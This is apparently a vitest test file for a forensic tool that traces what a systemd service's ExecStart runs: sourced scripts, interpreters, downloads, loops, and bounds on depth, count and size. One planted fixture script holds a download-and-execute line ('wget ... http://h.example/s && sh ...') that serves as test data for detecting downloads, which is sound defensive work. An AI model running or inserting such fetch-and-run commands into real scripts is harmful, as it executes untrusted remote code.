/** Chains of real files in a directory of the test's own. */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { inspect } from '../../src/host/inspect.ts';
import { parseUnit } from '../../src/host/units.ts';
import { followChain, SCRIPT_BYTES, type Chain } from '../../src/investigate/chain.ts';
import { commandsOfUnit } from '../../src/investigate/unit-commands.ts';
import { temporaryDirectory } from '../helpers/events.ts';
import { isRoot } from '../helpers/needs.ts';
import { plant } from '../helpers/response.ts';

function chain(root: string, exec: string, more = ''): Chain {
  const { starts, workingDirectory } = commandsOfUnit(parseUnit(`[Service]\nExecStart=${exec}\n${more}`), { unit: 'job@one.service', user: 'alice', uid: 4711, home: join(root, 'home') });
  return followChain(starts, { inspect: (path) => inspect(path, SCRIPT_BYTES), workingDirectory, home: join(root, 'home') });
}

/** `kind via path` with the root left out; programs of the system are left out. */
const shape = ({ files }: Chain, root: string): string[] => files.filter(({ path }) => path.startsWith(root)).map(({ path, kind, via, depth }) => `${depth} ${via} ${kind} ${path.slice(root.length + 1)}`);

test('a script leads to what it calls, sources and downloads, and to what those call', () => {
  const root = temporaryDirectory();
  plant(root, {
    'run.sh': `#!/bin/sh\nD=${root}/d\n. $D/lib.sh\n"$D/tool" x\npython3 $D/a.py\nwget -q -O $D/stage http://h.example/s && sh $D/stage\nhelp_me\n$UNKNOWN/x\n`,
    'd/lib.sh': `help_me() { ${root}/run.sh; ${root}/d/deep.sh; }\n`,
    'd/tool': 'a\0b',
    'd/a.py': `import os\nos.system("${root}/d/other")\n`,
    'd/deep.sh': '#!/bin/sh\ntrue\n',
  });
  const found = chain(root, `${root}/run.sh`);
  expect(shape(found, root)).toEqual(['0 runs script run.sh', '1 sources script d/lib.sh', '1 runs binary d/tool', '1 interprets script d/a.py', '1 downloads missing d/stage', '2 runs script d/deep.sh']);
  expect(found.downloads).toEqual([{ from: join(root, 'run.sh'), url: 'http://h.example/s', to: join(root, 'd/stage') }]);
  expect(found.files.map(({ path }) => path)).not.toContain('help_me');
  expect(found.files.find(({ path }) => path === '$UNKNOWN/x')).toMatchObject({ kind: 'unknown' });
  expect(found.files.find(({ via }) => via === 'interpreter')?.path).toBe('/bin/sh');
});

test('a circle ends where it closes, also through a link', () => {
  const root = temporaryDirectory();
  plant(root, { 'a.sh': `#!/bin/sh\n${root}/b.sh\n`, 'b.sh': `#!/bin/sh\n${root}/a.sh\n${root}/again\n`, again: '-> a.sh' });
  expect(shape(chain(root, `${root}/a.sh`), root)).toEqual(['0 runs script a.sh', '1 runs script b.sh', '2 runs script again']);
});

test('depth, number and size are bounded, and the bounds are said', () => {
  const root = temporaryDirectory();
  for (let index = 0; index < 20; index += 1) writeFileSync(join(root, `s${index}`), `#!/bin/sh\n${root}/s${index + 1}\n`);
  const deep = chain(root, `${root}/s0`);
  expect(shape(deep, root).length).toBe(7);
  expect(deep.limits).toEqual(['calls are followed 6 deep']);
  writeFileSync(join(root, 'many'), `#!/bin/sh\n${Array.from({ length: 500 }, (_, index) => `${root}/none${index}`).join('\n')}\n`);
  const many = chain(root, `${root}/many`);
  expect([many.files.length, many.limits]).toEqual([64, ['only the first 64 files of the chain are looked at']]);
  writeFileSync(join(root, 'long'), '#!/bin/sh\n');
  truncateSync(join(root, 'long'), 2 ** 30);
  expect(chain(root, `${root}/long`).limits).toEqual(['only the first 256 KiB of a script are read']);
});

test('nothing in the place of a program hangs or floods', () => {
  const root = temporaryDirectory();
  mkdirSync(join(root, 'directory'));
  execFileSync('mkfifo', [join(root, 'fifo')]);
  symlinkSync('loop', join(root, 'loop'));
  writeFileSync(join(root, 'huge'), '');
  truncateSync(join(root, 'huge'), 2 ** 30);
  for (const [path, kind] of [['fifo', 'special'], ['loop', 'unreadable'], ['directory', 'directory'], ['nothing', 'missing'], ['huge', 'binary']] as const) expect(chain(root, join(root, path)).files).toMatchObject([{ kind, depth: 0 }]);
  for (const path of ['/dev/zero', '/dev/tty', '/proc/kmsg', '/proc/self/mem']) expect(chain(root, path).files).toMatchObject([{ kind: 'special' }]);
  expect(chain(root, join(root, 'huge')).files[0]?.file).toMatchObject({ size: 2 ** 30, sha256: null });
});

test.skipIf(isRoot)('a program that may not be read is said to be (root may read everything)', () => {
  const root = temporaryDirectory();
  plant(root, { secret: 'x' });
  chmodSync(join(root, 'secret'), 0o111);
  expect(chain(root, join(root, 'secret')).files).toMatchObject([{ kind: 'unreadable' }]);
});

test.each([
  ['-@+/bin/sh', ['/bin/sh']],
  ['%h/run-%i "%%x" ; /b', ['HOME/run-one', '%x']],
  ['${P}/x $ARGS', ['/opt/p/x', 'a', 'b']],
  ['${MISSING}/x', ['${MISSING}/x']],
])('the words of ExecStart=%s', (exec, wanted) => {
  const { starts } = commandsOfUnit(parseUnit(`[Service]\nEnvironment=P=/opt/p "ARGS=a b"\nExecStart=${exec}\n`), { unit: 'job@one.service', user: 'alice', uid: 4711, home: 'HOME' });
  expect(starts[0]?.words).toEqual(wanted);
});

test('an empty setting takes back those before it, and commands run in their order', () => {
  const { starts, workingDirectory } = commandsOfUnit(parseUnit('[Service]\nExecStart=/a\nExecStart=\nExecStart=/b\nExecStartPre=/c\nWorkingDirectory=~\n'), { unit: 'x.service', user: undefined, uid: undefined, home: '/h' });
  expect([starts.map(({ from, words }) => `${from} ${words.join(' ')}`), workingDirectory]).toEqual([['ExecStartPre /c', 'ExecStart /b'], '/h']);
});
